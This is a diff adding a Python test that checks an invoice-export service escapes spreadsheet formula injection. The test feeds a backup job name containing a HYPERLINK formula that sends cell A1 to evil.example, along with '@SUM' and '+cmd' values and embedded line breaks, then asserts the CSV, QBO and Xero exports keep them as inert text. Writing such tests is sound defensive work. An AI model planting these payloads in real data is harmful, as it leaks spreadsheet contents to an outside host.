@@ -23,7 +23,8 @@ from collector.app import create_app
 from collector.auth import token_hash
 from collector.billing.export import read_generic_csv
 from collector.settings import Settings
-from tests.support.agents import SimAgent
+from shared.backup_results import BackupJob, BackupResults
+from tests.support.agents import REPORTS, SimAgent
 from tests.support.clock import Clock
 from tests.support.collector import TECH, report_free
 
@@ -346,6 +347,38 @@ async def test_the_csv_exports_import_back_into_the_invoice_totals(client: TestC
         csv.DictReader(io.StringIO(await (await client.get(f"{base}&format=xero", headers=TECH)).text()))
     )
     assert sum(D(r["*Quantity"]) * D(r["*UnitAmount"]) for r in xero) == D("2578.52")
+
+
+HOSTILE_JOB = '=HYPERLINK("http://evil.example/?"&A1,"open")\n-2+3'
+
+
+async def test_a_hostile_backup_job_name_reaches_the_csv_exports_only_as_text(client: TestClient, clock: Clock) -> None:
+    await api(client, "POST", "/api/v1/rates", RATES, 201)
+    agent = await enrol(client, "WS-03")
+    failed = BackupJob(name=HOSTILE_JOB, tool="restic", schedule="daily", last_result="failed",
+                       error="@SUM(1+1)\r\n+cmd", last_run_ended_at=clock.now)
+    body = agent.body(agent.envelope([BackupResults(collected_at=clock.now, jobs=[failed])]))
+    assert (await client.post(REPORTS, data=body, headers=agent.headers(body))).status == 200
+    [alert] = (await api(client, "GET", "/api/v1/alerts"))["alerts"]
+    opened = await api(client, "POST", "/api/v1/incidents", {"alert_id": alert["alert_id"]}, 201)
+    assert opened["title"].startswith("=HYPERLINK(")  # the agent's text, as the incident's title
+    await work(client, opened["incident_id"], "2026-11-23T10:00:00Z", 30)
+    part = {"description": "@SUM(A1:A9)\n-2+3 USB drive", "cost": "5.00", "price": "12.50", "day": "2026-11-23"}
+    await api(client, "POST", f"/api/v1/incidents/{opened['incident_id']}/parts", part, 201)
+    base = f"/api/v1/clients/{ACME}/invoice?month=2026-11"
+    for fmt in ("csv", "qbo", "xero"):
+        text = await (await client.get(f"{base}&format={fmt}", headers=TECH)).text()
+        rows = list(csv.reader(io.StringIO(text)))
+        assert len(text.split("\r\n")) == len(rows) + 1, "a cell spans lines"
+        cells = [cell for row in rows for cell in row]
+        assert not [c for c in cells if "\n" in c or "\r" in c]
+        formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t") and not re.fullmatch(r"-?[\d.]+", c)]
+        assert formulas == [], fmt
+        [time_line] = [c for c in cells if c.startswith(("'=HYPERLINK", "=HYPERLINK"))]
+        assert time_line.startswith('\'=HYPERLINK("http://evil.example/?"&A1,"open")'), time_line
+        [part_line] = [c for c in cells if "USB drive" in c]
+        assert part_line.startswith("'@SUM(A1:A9) -2+3 USB drive"), part_line
+    assert read_generic_csv(await (await client.get(f"{base}&format=csv", headers=TECH)).text()).total > 0
 
 
 async def test_an_incident_keeps_its_alerts_notes_and_closes_once(client: TestClient, clock: Clock) -> None:
